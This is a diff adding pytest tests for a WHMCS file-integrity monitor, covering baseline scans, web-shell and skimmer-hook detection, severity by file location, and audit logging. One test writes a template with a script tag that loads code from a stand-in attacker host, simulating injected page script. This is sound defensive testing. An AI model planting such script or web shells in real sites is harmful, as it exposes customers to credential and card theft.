@@ -1,0 +1,236 @@
+"""File integrity: baseline, incremental scans, classification by location, accept and audit."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from files_fixtures import SKIMMER_HOOK, WEB_SHELL, build_whmcs_tree, files_settings, open_db, write
+from whmcs_monitor.config import Settings
+from whmcs_monitor.errors import InputError
+from whmcs_monitor.files import fim
+from whmcs_monitor.store import audit
+from whmcs_monitor.store.db import Database
+from whmcs_monitor.store.events import EventFilter, query_events
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    return build_whmcs_tree(tmp_path / "whmcs")
+
+
+@pytest.fixture
+def fsettings(database_url: str, root: Path) -> Settings:
+    return files_settings(database_url, root)
+
+
+@pytest.fixture
+def fdb(fsettings: Settings) -> Iterator[Database]:
+    database = open_db(fsettings)
+    fim.baseline(database, fsettings, actor="test")
+    yield database
+    database.dispose()
+
+
+def by_path(report: fim.ScanReport) -> dict[str, list[fim.FileChange]]:
+    out: dict[str, list[fim.FileChange]] = {}
+    for change in report.changes:
+        out.setdefault(change.path, []).append(change)
+    return out
+
+
+def test_a_rescan_of_an_unchanged_tree_hashes_nothing_and_reports_nothing(
+    fdb: Database, fsettings: Settings
+) -> None:
+    report = fim.scan(fdb, fsettings)
+    assert report.files > 15
+    assert report.hashed == 0
+    assert report.changes == []
+
+
+def test_the_baseline_leaves_out_uploads_smarty_compiled_templates_and_git(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / ".git/objects/ab/cdef", b"blob")
+    report = fim.scan(fdb, fsettings)
+    paths = {item for item in fim.plan(fdb, fsettings).current}
+    assert "attachments/123456_invoice.pdf" not in paths
+    assert "templates_c/0a1b2c3d4e5f_0.file.header.tpl.php" not in paths
+    assert {"configuration.php", "attachments/.htaccess", "vendor/autoload.php"} <= paths
+    assert report.changes == []
+
+
+def test_a_php_file_dropped_in_attachments_is_a_suspected_web_shell(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / "attachments/cache.php", "<?php echo 1;\n")
+    write(root / "attachments/654321_contract.pdf", b"%PDF upload\n")
+    [change] = fim.scan(fdb, fsettings).changes
+    assert (change.path, change.kind, change.severity) == (
+        "attachments/cache.php",
+        "file.web_shell_suspected",
+        "critical",
+    )
+    assert change.rule == "php_in_writable_dir:attachments"
+
+
+def test_web_shell_code_is_caught_by_signature_even_among_modules(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / "modules/addons/helper.php", WEB_SHELL)
+    [change] = fim.scan(fdb, fsettings).changes
+    assert change.kind == "file.web_shell_suspected"
+    assert change.rule == "signature:eval_request"
+
+
+def test_configuration_php_and_hook_changes_are_critical_config_changes(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    os.chmod(root / "configuration.php", 0o600)
+    with open(root / "configuration.php", "a") as handle:
+        handle.write("$display_errors = true;\n")
+    write(root / "includes/hooks/checkout.php", SKIMMER_HOOK)
+    changes = by_path(fim.scan(fdb, fsettings))
+    config = {c.change: c for c in changes["configuration.php"]}
+    assert config["modified"].kind == "file.config_changed"
+    assert config["modified"].severity == "critical"
+    assert config["permissions_changed"].kind == "file.permissions_changed"
+    assert config["permissions_changed"].data["old_mode"] == "0400"
+    assert config["permissions_changed"].data["new_mode"] == "0600"
+    [hook] = changes["includes/hooks/checkout.php"]
+    assert (hook.kind, hook.severity, hook.change) == ("file.config_changed", "critical", "added")
+
+
+def test_template_and_module_changes_are_warnings_and_admin_changes_errors(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / "templates/six/header.tpl", "<html><script src=//evil.example/x.js>\n")
+    write(root / "modules/gateways/paypal.php", "<?php function paypal_config() { return []; }\n")
+    write(root / "admin/login.php", "<?php // admin login, patched\n")
+    changes = {c.path: c for c in fim.scan(fdb, fsettings).changes}
+    assert changes["templates/six/header.tpl"].severity == "warning"
+    assert changes["modules/gateways/paypal.php"].kind == "file.modified"
+    assert changes["modules/gateways/paypal.php"].severity == "warning"
+    assert changes["admin/login.php"].severity == "error"
+
+
+def test_delete_and_rename_are_reported_as_deleted_and_added(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    (root / "admin/index.php").unlink()
+    (root / "templates/six/footer.tpl").rename(root / "templates/six/footer-old.tpl")
+    changes = {(c.path, c.change) for c in fim.scan(fdb, fsettings).changes}
+    assert changes == {
+        ("admin/index.php", "deleted"),
+        ("templates/six/footer.tpl", "deleted"),
+        ("templates/six/footer-old.tpl", "added"),
+    }
+
+
+def test_content_changed_behind_a_reset_mtime_is_still_found(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    target = root / "includes/functions.php"
+    before = target.stat()
+    target.write_bytes(b"<?php function y() {}\n")  # same size as before
+    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
+    [change] = fim.scan(fdb, fsettings).changes
+    assert (change.path, change.change) == ("includes/functions.php", "modified")
+
+
+def test_a_touch_without_a_content_change_rehashes_but_reports_nothing(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    os.utime(root / "index.php", (1, 1))
+    report = fim.scan(fdb, fsettings)
+    assert report.hashed == 1
+    assert report.changes == []
+
+
+def test_each_change_becomes_one_stored_event_however_often_it_is_scanned(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / "downloads/x.php", WEB_SHELL)
+    first = fim.scan(fdb, fsettings)
+    second = fim.scan(fdb, fsettings)
+    assert (first.new_events, second.changes) == (1, [])
+    with fdb.read() as conn:
+        [event] = query_events(conn, EventFilter(kinds=["file.web_shell_suspected"]))
+    assert event["severity"] == "critical"
+    assert event["labels"]["path"] == "downloads/x.php"
+    assert "downloads/x.php" in event["summary"]
+
+
+def test_accept_makes_changes_the_baseline_and_is_recorded_in_the_audit_trail(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / "templates/six/header.tpl", "<html>upgraded\n")
+    write(root / "modules/new.php", "<?php // new module\n")
+    fim.scan(fdb, fsettings)
+    assert {p["path"] for p in fim.pending(fdb, fsettings)} == {
+        "templates/six/header.tpl",
+        "modules/new.php",
+    }
+    assert fim.accept(fdb, fsettings, ["templates"], actor="alice") == 1
+    assert [p["path"] for p in fim.pending(fdb, fsettings)] == ["modules/new.php"]
+    with fdb.read() as conn:
+        assert audit.verify(conn).ok
+        actions = [r.action for r in conn.exec_driver_sql("SELECT action FROM audit_log")]
+    assert actions == ["fim.baseline", "fim.accept"]
+
+
+def test_a_scan_of_a_path_outside_the_root_is_refused(
+    fdb: Database, fsettings: Settings, tmp_path: Path
+) -> None:
+    with pytest.raises(InputError, match=r"outside files\.whmcs_root"):
+        fim.scan(fdb, fsettings, [tmp_path / "elsewhere"])
+
+
+def test_a_scan_limited_to_one_directory_does_not_report_the_rest_as_deleted(
+    fdb: Database, fsettings: Settings, root: Path
+) -> None:
+    write(root / "admin/new.php", "<?php\n")
+    write(root / "modules/other.php", "<?php\n")
+    changes = fim.scan(fdb, fsettings, ["admin"]).changes
+    assert [(c.path, c.change) for c in changes] == [("admin/new.php", "added")]
+
+
+def test_on_a_tree_of_20k_files_every_kind_of_change_is_found_and_nothing_else(
+    tmp_path: Path,
+) -> None:
+    # Backend-independent (the store tests above run on both); SQLite keeps this one fast.
+    big = build_whmcs_tree(tmp_path / "big", extra_files=20_000)
+    settings = files_settings(f"sqlite:///{tmp_path / 'monitor.db'}", big)
+    database = open_db(settings)
+    try:
+        assert fim.baseline(database, settings, actor="test").files > 20_000
+        write(big / "vendor/pkg3/src/New.php", "<?php\n")
+        write(big / "vendor/pkg7/src/File3600.php", "<?php // patched\n")
+        os.chmod(big / "vendor/pkg9/src/File4501.php", 0o666)
+        (big / "vendor/pkg11/src/File5502.php").unlink()
+        (big / "vendor/pkg13/src/File6503.php").rename(big / "vendor/pkg13/src/Moved.php")
+        report = fim.scan(database, settings)
+    finally:
+        database.dispose()
+    assert report.hashed == 4  # new, patched, chmod'ed (ctime moved) and the renamed file
+    assert {(c.path, c.change) for c in report.changes} == {
+        ("vendor/pkg3/src/New.php", "added"),
+        ("vendor/pkg7/src/File3600.php", "modified"),
+        ("vendor/pkg9/src/File4501.php", "permissions_changed"),
+        ("vendor/pkg11/src/File5502.php", "deleted"),
+        ("vendor/pkg13/src/File6503.php", "deleted"),
+        ("vendor/pkg13/src/Moved.php", "added"),
+    }
+
+
+def test_a_full_scan_before_any_baseline_says_to_record_one(database_url: str, root: Path) -> None:
+    settings = files_settings(database_url, root)
+    database = open_db(settings)
+    try:
+        with pytest.raises(InputError, match="run `whmcs-monitor fim baseline` first"):
+            fim.scan(database, settings)
+    finally:
+        database.dispose()
